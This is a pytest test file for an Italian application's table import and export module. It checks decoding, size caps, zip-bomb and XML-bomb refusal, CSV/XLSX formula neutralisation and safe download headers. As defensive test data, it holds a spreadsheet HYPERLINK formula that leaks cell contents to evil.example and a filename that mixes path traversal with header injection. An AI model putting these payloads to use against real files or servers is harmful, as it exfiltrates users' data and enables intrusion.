"""The one reader and the one writer of tables (``ambito.core.tabular``): decoding, delimiters, caps on size,
rows, columns and reported errors, archive checks of XLSX files, formula neutralisation and download headers."""

import csv
import io
import zipfile

import pytest
from openpyxl import Workbook, load_workbook

from ambito.core import tabular
from ambito.core.imports import MAX_ERRORS, ErrorList, ImportRejected, MoreErrors, RowError
from ambito.core.tabular import XlsxSheet, read_table, write_csv, write_xlsx

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"SAD")'


def _rows(table):
    return [(row.number, row.values) for row in table.sheet.rows]


def _refusal(call) -> str:
    with pytest.raises(ImportRejected) as refused:
        call()
    return refused.value.report()


# --- CSV: decoding, delimiter, header, rows ----------------------------------------------------------------------


def test_utf8_with_bom_and_windows_1252_are_both_read():
    utf8 = read_table("\ufeffcomune;età\nCantù;3\n".encode(), kind="csv")
    cp1252 = read_table("comune;età\nCantù;3\n".encode("cp1252"), kind="csv")
    assert _rows(utf8) == _rows(cp1252) == [(2, {"comune": "Cantù", "età": "3"})]


@pytest.mark.parametrize("data", [b"a;b\n1;\x002\n", "a;b\n1;\x00\n".encode("utf-16"), b"a;b\n\x81\x8d\x90;1\n"],
                         ids=["nul", "utf-16", "not-cp1252"])
def test_a_binary_file_is_not_a_text_file(data):
    assert "Il file non è un file di testo (CSV)." in _refusal(lambda: read_table(data, kind="csv"))


@pytest.mark.parametrize(("text", "expected"), [
    ("a;b;c\n1;2,5;3\n", {"a": "1", "b": "2,5", "c": "3"}),
    ("a,b,c\n1,\"2;5\",3\n", {"a": "1", "b": "2;5", "c": "3"}),
    ("a\tb\tc\n1\t2\t3\n", {"a": "1", "b": "2", "c": "3"}),
    ("a;b,c\n1;2,3\n", {"a": "1", "b,c": "2,3"}),  # a tie goes to ";", as Italian spreadsheets write
])
def test_the_delimiter_is_the_one_the_header_line_has_most_of(text, expected):
    assert _rows(read_table(text.encode(), kind="csv")) == [(2, expected)]


def test_the_header_is_found_below_a_title_and_rows_keep_their_line_numbers():
    text = ('"Popolazione residente al 1° gennaio 2024"\n\nCodice comune;Età\n108049;0\n\n'
            '"108049";"1\nbis"\n108049;2\n')
    table = read_table(text.encode(), kind="csv", find_header=lambda cells: "Codice comune" in cells)
    assert table.sheet.preamble == ['"Popolazione residente al 1° gennaio 2024"']
    assert table.sheet.header_row == 3
    # Blank lines are left out; a record spanning two lines is numbered by the line it starts on.
    assert [(n, v["Età"]) for n, v in _rows(table)] == [(4, "0"), (6, "1\nbis"), (8, "2")]


def test_required_columns_and_a_row_shorter_than_the_header():
    report = _refusal(lambda: read_table(b"referral;date\n1;2\n", kind="csv",
                                         required_columns=("referral", "date", "type")))
    assert report == "riga 1: Colonne mancanti: type."
    assert _rows(read_table(b"a;b;c\n1\n", kind="csv")) == [(2, {"a": "1", "b": None, "c": None})]


def test_a_file_larger_than_the_cap_is_refused_before_it_is_decoded():
    assert "più grande di 1 MB" in _refusal(lambda: read_table(b"a\n" * (1024 * 1024), kind="csv",
                                                                max_bytes=1024 * 1024))
    upload = io.BytesIO(b"a\n" + b"1\n" * 10)
    assert len(_rows(read_table(upload, kind="csv", max_bytes=100))) == 10


def test_a_csv_with_more_rows_than_the_cap_is_refused_with_a_clear_message():
    data = b"a;b\n" + b"1;2\n" * tabular.MAX_ROWS
    assert len(_rows(read_table(data[:-4], kind="csv"))) == tabular.MAX_ROWS - 1  # header + rows = the cap
    report = _refusal(lambda: _rows(read_table(data, kind="csv")))
    assert report == ("file: Il file ha più di 20.000 righe (comprese quelle vuote): dividilo in file più "
                      "piccoli.")
    assert "più di 50 righe" in _refusal(lambda: _rows(read_table(b"a\n" + b"\n" * 60, kind="csv", max_rows=50)))


def test_a_damaged_csv_is_refused_not_raised():
    huge_field = b'a\n"' + b"x" * (200 * 1024) + b'"\n'  # past the csv module's field size limit
    assert "non è un file di testo" in _refusal(lambda: _rows(read_table(huge_field, kind="csv")))


# --- Errors: at most MAX_ERRORS, then how many more ------------------------------------------------------------------


def test_the_error_list_counts_every_error_and_keeps_the_first():
    errors = ErrorList(limit=3)
    for row in range(1, 11):
        errors.append(RowError(row, "bad"))
    errors += [RowError(11, "bad")]
    assert len(errors) == 11 and errors.dropped == 8 and [e.row for e in errors] == [1, 2, 3]
    rejected = ImportRejected(errors)
    assert [str(e) for e in rejected.errors] == [
        "riga 1: bad", "riga 2: bad", "riga 3: bad",
        "…e altri 8 errori, non elencati: correggi prima questi e carica di nuovo il file."]


def test_a_plain_list_of_errors_is_cut_too():
    rejected = ImportRejected([RowError(row, "bad") for row in range(500, 0, -1)])
    assert [e.row for e in rejected.errors[:MAX_ERRORS]] == list(range(1, MAX_ERRORS + 1))
    assert isinstance(rejected.errors[-1], MoreErrors) and "altri 400 errori" in str(rejected.errors[-1])


def test_a_file_with_ten_thousand_bad_rows_reports_at_most_the_cap_and_a_summary():
    from ambito.territory.services import population_parse

    rows = "\n".join(f"999{n % 1000:03d};Nessuno;{n % 100};1;1;2" for n in range(10_000))
    data = f"Popolazione residente al 1° gennaio 2024\nCodice comune;Comune;Età;Totale maschi;" \
           f"Totale femmine;Totale\n{rows}\n".encode()
    with pytest.raises(ImportRejected) as refused:
        population_parse(data=data)
    errors = refused.value.errors
    assert len(errors) == MAX_ERRORS + 1
    assert [e.row for e in errors[:3]] == [3, 4, 5] and "Codice ISTAT" in errors[0].message
    assert str(errors[-1]) == ("…e altri 9900 errori, non elencati: correggi prima questi e carica di nuovo "
                               "il file.")


# --- XLSX ------------------------------------------------------------------------------------------------------------


def _workbook(*sheets) -> bytes:
    book = Workbook()
    book.remove(book.active)
    for title, rows in sheets:
        sheet = book.create_sheet(title)
        for row in rows:
            sheet.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def test_an_xlsx_is_read_sheet_by_sheet_with_typed_cells():
    data = _workbook(("2025", [["Codice", "Importo"], ["I01", 12.5], [None, None], ["I02", "1.000,00"]]),
                     ("Note", [[None], ["testo", None, None]]))
    sheets = [(s.name, s.header, [(r.number, r.values) for r in s.rows]) for s in read_table(data, kind="xlsx")]
    assert sheets == [("2025", ("Codice", "Importo"), [(2, {"Codice": "I01", "Importo": 12.5}),
                                                       (4, {"Codice": "I02", "Importo": "1.000,00"})]),
                      ("Note", ("testo",), [])]


def test_a_file_that_is_not_a_workbook_is_refused():
    for data in (b"codice;importo\n", b"PK\x03\x04 not a zip", _zip({"hello.txt": b"hi"})):
        assert "non è una cartella di lavoro Excel" in _refusal(lambda d=data: list(read_table(d, kind="xlsx")))


def _zip(members: dict, level=9) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def _with_member(data: bytes, name: str, content: bytes) -> bytes:
    with zipfile.ZipFile(io.BytesIO(data)) as source:
        members = {info.filename: source.read(info) for info in source.infolist()}
    members[name] = content
    return _zip(members)


def test_the_archive_is_checked_before_it_is_opened(monkeypatch):
    base = _workbook(("2025", [["Codice"], ["I01"]]))
    # One part expanding past the whole-workbook cap.
    monkeypatch.setattr(tabular, "XLSX_MAX_UNCOMPRESSED", 2 * 1024 * 1024)
    big = _with_member(base, "xl/media/padding.bin", b"\x00" * (3 * 1024 * 1024))
    report = _refusal(lambda: read_table(big, kind="xlsx"))
    assert "troppo grande una volta decompressa (più di 2 MB)" in report
    monkeypatch.undo()
    # The shared strings (read whole by openpyxl, even in read-only mode) past their own cap.
    monkeypatch.setattr(tabular, "XLSX_MAX_WHOLE", 1024 * 1024)
    strings = b"<sst>" + b"".join(b"<si><t>%d</t></si>" % n for n in range(120_000)) + b"</sst>"
    assert "troppo grande una volta decompressa" in _refusal(
        lambda: read_table(_with_member(base, "xl/sharedStrings.xml", strings), kind="xlsx"))
    monkeypatch.undo()
    # A part compressed far more than any sheet is.
    bomb = _with_member(base, "xl/media/bomb.bin", b"\x00" * (5 * 1024 * 1024))
    assert "compressa in modo anomalo" in _refusal(lambda: read_table(bomb, kind="xlsx"))


def test_a_sheet_wider_than_the_cap_is_refused():
    wide = _workbook(("2025", [["Codice", *[f"c{n}" for n in range(300)]]]))
    assert "Il foglio “2025” ha più di 256 colonne." in _refusal(lambda: list(read_table(wide, kind="xlsx")))
    # A lying <dimension> (every column of the sheet) is not trusted: rows are not padded to it.
    sheet = (b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
             b'<dimension ref="A1:B2"/><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>Codice</t></is></c>'
             b'</row><row r="2"><c r="XFD2"><v>1</v></c></row></sheetData></worksheet>')
    data = _with_member(_workbook(("2025", [["x"]])), "xl/worksheets/sheet1.xml", sheet)
    assert "ha più di 256 colonne" in _refusal(lambda: [list(s.rows) for s in read_table(data, kind="xlsx")])


def test_an_xlsx_with_more_rows_than_the_cap_is_refused():
    data = _workbook(("2025", [["Codice"], *[[f"I{n}"] for n in range(60)]]))
    assert "più di 50 righe" in _refusal(lambda: [list(s.rows) for s in read_table(data, kind="xlsx", max_rows=50)])
    # The same cap while openpyxl streams the rows (a file the markup scan would let through).
    counter = tabular._RowCounter(50)
    sheets = tabular._xlsx_sheets(load_workbook(io.BytesIO(data), read_only=True), find_header=lambda c: True,
                                  header_key=str, counter=counter, max_columns=tabular.MAX_COLUMNS)
    assert "più di 50 righe" in _refusal(lambda: [list(s.rows) for s in sheets])


def _sheet_xml(rows: bytes) -> bytes:
    return (b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
            b'<row><c t="inlineStr"><is><t>Codice</t></is></c></row>' + rows + b"</sheetData></worksheet>")


def test_markup_that_openpyxl_would_build_whole_is_refused_before_it_opens_the_file(monkeypatch):
    import time
    import tracemalloc

    monkeypatch.setattr(tabular, "XLSX_MAX_RATIO", 10**6)  # past the ratio check: the markup scan stops these
    base = _workbook(("2025", [["x"]]))
    giant_row = _with_member(base, "xl/worksheets/sheet1.xml", _sheet_xml(b"<row>" + b'<c r="B2"/>' * 3_000_000
                                                                          + b"</row>"))
    many_cells = _with_member(base, "xl/worksheets/sheet1.xml", _sheet_xml((b"<row>" + b"<c/>" * 200 + b"</row>")
                                                                           * 4_000))
    for data, message in ((giant_row, "Una riga della cartella di lavoro ha più di 256 colonne."),
                          (many_cells, "La cartella di lavoro ha troppe celle (più di circa 125.000): dividila.")):
        tracemalloc.start()
        started = time.perf_counter()
        report = _refusal(lambda d=data: read_table(d, kind="xlsx", max_rows=5_000))
        elapsed, peak = time.perf_counter() - started, tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
        assert message in report
        assert elapsed < 2 and peak < 20 * 1024 * 1024


# --- Writing -----------------------------------------------------------------------------------------------------------

TRIGGERS = [EVIL, "+39 039 2384 1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


def test_csv_cells_a_spreadsheet_would_run_get_a_quote_and_numbers_stay_numbers():
    import datetime
    from decimal import Decimal

    text = write_csv([[*TRIGGERS, "-1", "+3,5", Decimal("-7.25"), -4, datetime.date(2025, 1, 2), None, "Anna"]],
                     columns=["=titolo", *"bcdefghijklm"])
    header, row = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert header[0] == "'=titolo"
    assert row[:6] == ["'" + value for value in TRIGGERS]
    assert row[6:] == ["-1", "+3,5", "-7.25", "-4", "2025-01-02", "", "Anna"]


def test_without_neutralisation_a_data_interchange_file_keeps_its_values():
    text = write_csv([TRIGGERS], delimiter=",", neutralise=False)
    assert next(csv.reader(io.StringIO(text))) == TRIGGERS


def test_write_csv_to_a_file_counts_the_rows():
    handle = io.StringIO()
    assert write_csv(iter([[1], [2], [3]]), ["n"], handle=handle) == 3
    assert handle.getvalue() == "n\r\n1\r\n2\r\n3\r\n"


def test_xlsx_text_is_never_a_formula():
    for neutralise in (True, False):
        data = write_xlsx([XlsxSheet("S", [[t] for t in TRIGGERS])], neutralise=neutralise)
        cells = [row[0] for row in load_workbook(io.BytesIO(data))["S"].iter_rows()]
        assert [cell.data_type for cell in cells] == ["s"] * len(TRIGGERS)
        values = [cell.value for cell in cells]
        assert values[:4] == [("'" if neutralise else "") + t for t in TRIGGERS[:4]]


def test_xlsx_sheet_names_formats_and_widths():
    data = write_xlsx([XlsxSheet("Foglio con un nome lunghissimo oltre il limite", [["Nome", "Importo"],
                                                                                   ["=x", 12.5], ["y", None]],
                                 bold_rows=[1], number_formats={2: "0.00"}, widths={1: 40}, freeze_panes="A2")])
    book = load_workbook(io.BytesIO(data))
    sheet = book.worksheets[0]
    assert sheet.title == "Foglio con un nome lunghissimo "[:31]
    assert sheet["A1"].font.bold and not sheet["A2"].font.bold
    assert sheet["A2"].value == "'=x" and sheet["B2"].number_format == "0.00" and sheet["B3"].number_format == "0.00"
    assert sheet.column_dimensions["A"].width == 40 and sheet.freeze_panes == "A2"


# --- Downloads ---------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(("name", "safe"), [
    ("indicatori-prova-2025.csv", "indicatori-prova-2025.csv"),
    ('../../etc/"passwd";\r\nX-Evil: 1.csv', "passwd-X-Evil-1.csv"),
    ("relazione è più bella.pdf", "relazione-e-piu-bella.pdf"),
    ("", "download"),
])
def test_file_names_are_made_safe(name, safe):
    assert tabular.safe_filename(name) == safe


def test_every_download_carries_the_same_headers(tmp_path):
    path = tmp_path / "x.bin"
    path.write_bytes(b"data")
    answers = {
        "csv": tabular.download_response("a;b\r\n", filename="dati.csv"),
        "xlsx": tabular.download_response(b"PK", filename="bilancio.xlsx"),
        "zip": tabular.download_response(iter([b"PK"]), filename="pacchetto.zip"),
        "pdf": tabular.download_response(path.open("rb"), filename="relazione.pdf"),
        "bin": tabular.download_response(b"?", filename="strano"),
        "jpg": tabular.download_response(b"\xff\xd8\xff", filename="Foto del referto.JPG"),
        "attachment": tabular.download_response(b"%PDF-", filename="verbale.pdf", content_type="application/pdf"),
    }
    for kind, response in answers.items():
        assert response["Cache-Control"] == "no-store"
        assert response["X-Content-Type-Options"] == "nosniff"
        assert response["Content-Disposition"].startswith('attachment; filename="')
    assert answers["csv"]["Content-Type"] == "text/csv; charset=utf-8"
    assert answers["xlsx"]["Content-Type"] == tabular.CONTENT_TYPES["xlsx"]
    assert answers["zip"].streaming and answers["pdf"]["Content-Type"] == "application/pdf"
    assert answers["bin"]["Content-Type"] == "application/octet-stream"
    assert answers["jpg"]["Content-Type"] == "image/jpeg"
    assert answers["jpg"]["Content-Disposition"] == 'attachment; filename="Foto-del-referto.JPG"'
    assert answers["attachment"]["Content-Type"] == "application/pdf"
    answers["pdf"].close()
